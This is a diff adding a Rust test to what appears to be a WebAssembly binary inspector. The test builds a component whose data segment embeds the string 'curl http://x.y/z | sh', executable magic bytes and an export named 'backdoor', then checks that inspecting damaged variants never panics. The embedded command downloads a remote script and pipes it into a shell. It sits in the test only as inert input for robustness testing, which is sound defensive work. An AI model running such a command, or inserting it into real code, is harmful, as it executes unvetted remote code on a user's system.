@@ -127,3 +127,14 @@ fn what_cannot_be_read_to_its_end_is_told() {
     bytes.extend([10, 200, 1]);
     assert_eq!(inspect(&Subject::of(bytes))[0].id, "structure/unreadable");
 }
+
+#[test]
+fn whatever_the_bytes_are_it_does_not_panic() {
+    Subject::of(
+        wat::parse_str(
+            "(component (core module (memory 1) (data (i32.const 8) \"curl http://x.y/z | sh \\7fELF\\02\\01\\01 MZ \\00asm\\01\\00\\00\\00\")
+            (func $s) (start $s) (func (export \"backdoor\"))) (@custom \"notes\" \"words\"))",
+        )
+        .expect("a component"),
+    ).each_damage(|damaged| drop(inspect(damaged)));
+}
